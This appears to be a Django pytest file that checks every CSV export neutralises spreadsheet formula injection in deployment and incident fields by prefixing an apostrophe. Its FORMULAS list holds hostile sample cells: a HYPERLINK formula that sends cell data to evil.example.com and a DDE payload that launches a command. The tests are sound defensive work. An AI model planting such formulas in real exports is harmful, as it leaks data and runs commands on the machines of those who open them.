"""Issue 16 finding 10: text a sender chose (a deployment's name, an incident's title) opens in
a spreadsheet as that text, never as a formula, in every CSV export (OWASP's rule)."""

import csv
import io

import pytest

from apps.dashboards.csv_export import neutralize
from tests.factories import DeploymentFactory, IssueFactory, ProjectFactory, UserFactory

pytestmark = pytest.mark.django_db

FORMULAS = [
    '=HYPERLINK("https://evil.example.com/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
]


def export(client, path):
    response = client.get(path)
    assert response["Content-Type"].startswith("text/csv")
    return list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))


@pytest.mark.parametrize("text", FORMULAS)
def test_every_export_neutralises_formula_cells(client, text):
    project = ProjectFactory(slug="csv")
    DeploymentFactory(connection__project=project, name=text, service=text)
    IssueFactory(connection__project=project, title=text, is_incident=True)
    client.force_login(UserFactory())

    # The factories' rows lie in January 2024: outside the lists' default 90 days.
    period = "since=2023-12-01&until=2024-06-01"
    [deployment] = export(client, f"/projects/csv/deployments/?format=csv&{period}")
    [incident] = export(client, f"/projects/csv/incidents/?format=csv&{period}")

    for cell in (deployment["name"], deployment["service"], incident["title"]):
        assert cell == "'" + text


def test_numbers_and_plain_text_are_kept():
    assert neutralize(-5) == -5
    assert neutralize("deploy api") == "deploy api"
    assert neutralize("") == ""
